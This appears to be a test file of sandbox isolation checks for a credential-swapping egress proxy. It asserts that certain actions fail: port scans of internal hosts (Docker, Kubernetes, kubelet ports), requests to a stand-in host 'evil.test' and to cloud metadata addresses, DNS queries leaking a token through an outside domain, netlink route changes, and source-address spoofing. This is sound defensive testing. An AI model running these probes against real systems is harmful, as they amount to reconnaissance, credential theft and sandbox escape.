# Other roads out than the proxy.

# expected: no way out
# judge: verdicts()

# name: TCP to other ports
# seconds: 60
opened = []
lock = threading.Lock()


def knock(host, port):
    with contextlib.suppress(OSError):
        socket.create_connection((host, port), 1).close()
        with lock:
            opened.append((host, port))


def knocks(host):
    for port in [22, 25, 54, 111, 2375, 2376, 6443, 8080, 8081, 8443, 9000, 9090, 10250, 44300]:
        knock(host, port)


threads = [threading.Thread(target=knocks, args=(host,)) for host in TARGETS + ["httpbin.test"]]
for t in threads:
    t.start()
for t in threads:
    t.join()
out(held=not opened, seen=f"open {opened}")

# name: TLS to a host in no API
# expected: refused by the proxy
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
reached = 0
for host in TARGETS + [RESOLVER]:
    with contextlib.suppress(OSError):
        with context.wrap_socket(socket.create_connection((host, 443), 1), server_hostname="evil.test") as s:
            reached += 1
            s.sendall(b"GET /anything?t=TRIAL HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
            got = s.recv(4096)
            out(held=not got.startswith(b"HTTP/1.1 2"), seen=f"{host} {got[:40]}")
out(held=reached > 0, seen=f"the proxy was reached {reached} times")

# name: a host in no API
# expected: refused by the proxy
# judge: refused()
show("https://evil.test/?t=TRIAL")
show("http://evil.test/?t=TRIAL")
show("http://169.254.169.254/latest/meta-data/?t=TRIAL")
show("http://metadata.google.internal/?t=TRIAL")

# name: a credential for another host
# expected: not swapped
# judge: unswapped("OTHER_TOKEN", true)
show("https://httpbin.test/anything?t=TRIAL", auth("OTHER_TOKEN"))

# name: control: a request with a credential
# expected: swapped
# judge: both(swapped("HTTPBIN_TOKEN"), scrubbed("HTTPBIN_TOKEN", true))
show("https://httpbin.test/anything?t=TRIAL", auth("HTTPBIN_TOKEN"))

# name: UDP
for host in TARGETS:
    for port in 67, 123, 161, 443, 514, 5353, 51820:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.02)
            try:
                s.sendto(b"TRIAL", (host, port))
                out(held=False, seen=f"{host}:{port} answered {s.recv(100)}")
            except OSError:
                pass
out(held=True, seen="no answer")

# name: DNS outside the catalog
# expected: never forwarded
# judge: unasked
import struct


def question(name, kind):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack(">6H", 0x1234, 0x100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)


for host in TARGETS + [RESOLVER]:
    for kind in 1, 16, 28, 255:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.1)
            with contextlib.suppress(OSError):
                s.sendto(question("TRIAL.evil.test", kind), (host, 53))
                s.recv(512)
    with contextlib.suppress(OSError):
        with socket.create_connection((host, 53), 0.2) as s:
            q = question("TRIAL.evil.test", 16)
            s.sendall(struct.pack(">H", len(q)) + q)
            s.settimeout(0.5)
            s.recv(512)
for name in "TRIAL.evil.test", "TRIAL.httpbin.test", "TRIAL.example.com", "TRIAL":
    try:
        out(status=1, text=str(socket.getaddrinfo(name, 443)))
    except OSError as e:
        why(e)

# name: addresses, routes and marks
# expected: refused by the kernel
def request(kind):
    """Sends one empty request; a kernel that would process it says EINVAL or the like."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(2)
        s.sendto((48).to_bytes(4, "little") + kind.to_bytes(2, "little") + b"\x05\0" + bytes(40), (0, 0))
        code = -int.from_bytes(s.recv(4096)[16:20], "little", signed=True)
        if code:
            raise OSError(code, os.strerror(code))


def option(level, which):
    with socket.socket() as s:
        s.setsockopt(level, which, 1)


for name, kind in {"link": 16, "address": 20, "route": 24, "neighbour": 28, "rule": 32, "qdisc": 36}.items():
    attempt(name, lambda: request(kind), REFUSALS)
attempt("a transparent socket", lambda: option(socket.SOL_IP, 19), REFUSALS)
attempt("a mark", lambda: option(socket.SOL_SOCKET, 36), REFUSALS)
attempt("a privileged port", lambda: socket.create_server(("0.0.0.0", 443)), REFUSALS | {errno.EADDRINUSE})

# name: another slot's address
# expected: refused by the kernel
# only: docker kubernetes
for n in range(16):
    source = f"10.77.0.{100 + n}"
    if n == os.getuid() - 20000:
        continue
    for free in 0, 1:
        for to in (RESOLVER, 443), ("10.77.0.2", 443), ("10.77.0.2", 80), (RESOLVER, 53):
            with socket.socket() as s:
                s.settimeout(0.3)
                s.setsockopt(socket.SOL_IP, 15, free)
                try:
                    s.bind((source, 0))
                    s.connect(to)
                    out(held=False, seen=f"a connection from {source} to {to}")
                except OSError:
                    pass
out(held=True, seen="none")
